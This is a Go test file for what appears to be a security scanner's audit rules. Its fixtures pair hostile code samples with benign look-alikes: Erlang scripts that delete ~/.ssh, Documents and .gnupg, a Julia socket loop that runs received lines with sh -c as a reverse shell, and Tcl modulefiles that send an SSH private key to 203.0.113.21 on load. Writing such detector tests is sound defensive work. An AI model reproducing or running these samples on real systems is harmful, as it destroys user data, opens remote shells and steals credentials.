package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestSets6061bReadings: readings added for red-team sets 60 and 61,
// each with a hostile case at its severity and a benign look-alike:
//   - an Erlang escript removing home's key or personal folders with
//     file:del_dir_r, through a wrapper and a list walked by a fun or a
//     comprehension (destructive-command); caches under home are not;
//   - Julia reading lines from a socket it connects and running each with
//     sh -c (reverse-shell); a fixed command beside the socket is not;
//   - a Tcl modulefile of Environment Modules or Lmod (the #%Module
//     header, or a version-named file in a modulefiles folder) read as
//     Tcl: its socket send of an SSH private key is credential-exfil; a
//     license check sending the user name is not.
func TestSets6061bReadings(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	escript := func(dirs string) string {
		return "#!/usr/bin/env escript\n%% reset build state when the OTP release changes\n-define(PROJECT_STATE, [\"_build/default/lib\", \".rebar3\"]).\n-define(USER_STATE, [" + dirs + "]).\n\nmain(_) ->\n    lists:foreach(fun remove/1, ?PROJECT_STATE),\n    reset_user_state().\n\nreset_user_state() ->\n    {ok, [[Home]]} = init:get_argument(home),\n    lists:foreach(fun(Rel) -> remove(filename:join(Home, Rel)) end, ?USER_STATE).\n\nremove(Path) ->\n    case filelib:is_dir(Path) of\n        true -> ok = file:del_dir_r(Path);\n        false -> _ = file:delete(Path), ok\n    end.\n"
	}
	erlComp := func(dir string) string {
		return "-module(clean).\n-export([run/0]).\n\nrun() ->\n    Home = os:getenv(\"HOME\"),\n    _ = [file:del_dir_r(filename:join([Home, D])) || D <- [\".hex/packages\", \"" + dir + "\"]],\n    ok.\n"
	}
	julia := func(cmd string) string {
		return "module FarmLink\nusing Sockets\nfunction link(host, port)\n    sock = try\n        Sockets.connect(host, port)\n    catch\n        return nothing\n    end\n    @async while isopen(sock)\n        line = readline(sock)\n        fixed = \"make figures\"\n        out = IOBuffer()\n        run(pipeline(ignorestatus(`sh -c $" + cmd + "`); stdout = out, stderr = out))\n        write(sock, take!(out))\n    end\n    sock\nend\nend\n"
	}
	module := func(head, file, send string) string {
		return head + "proc ModulesHelp { } {\n    puts stderr \"Registers this node with the site service.\"\n}\nmodule-whatis \"Name: keysync\"\nset home $::env(HOME)\nproc collect { home } {\n    set p [file join $home " + file + "]\n    set fh [open $p r]\n    set data [read $fh]\n    close $fh\n    return [binary encode base64 $data]\n}\nproc send { host port body } {\n    set s [socket $host $port]\n    puts $s \"POST /register HTTP/1.0\"\n    puts $s \"\"\n    puts -nonewline $s $body\n    close $s\n}\nif { [module-info mode load] } {\n    send 203.0.113.21 7070 " + send + "\n}\n"
	}
	cases := map[string]sev4041{
		"hostile/erl-escript-ssh":       {"destructive-command", "scripts/prep.escript", escript("\".cache/rebar3\", \".hex\", \".ssh\", \"Documents\""), crit},
		"benign/erl-escript-caches":     {"destructive-command", "scripts/prep.escript", escript("\".cache/rebar3\", \".hex\""), none},
		"hostile/erl-comprehension":     {"destructive-command", "src/clean.erl", erlComp(".gnupg"), crit},
		"benign/erl-comprehension":      {"destructive-command", "src/clean.erl", erlComp(".cache/erlang_ls"), none},
		"hostile/julia-sock-sh-line":    {"reverse-shell", "src/FarmLink.jl", julia("line"), crit},
		"benign/julia-sock-sh-fixed":    {"reverse-shell", "src/FarmLink.jl", julia("fixed"), none},
		"hostile/modulefile-header-key": {"credential-exfil", "modulefiles/site/keysync/1.0", module("#%Module1.0\n", ".ssh id_ed25519", "[collect $home]"), crit},
		"hostile/modulefile-folder-key": {"credential-exfil", "modulefiles/site/keysync/2.1", module("## keysync\n", ".ssh id_rsa", "[collect $home]"), crit},
		"benign/modulefile-license":     {"credential-exfil", "modulefiles/site/keysync/1.0", module("#%Module1.0\n", ".config/keysync/node.conf", "user=$::env(USER)"), none},
	}
	checkByRule(t, cases)
}
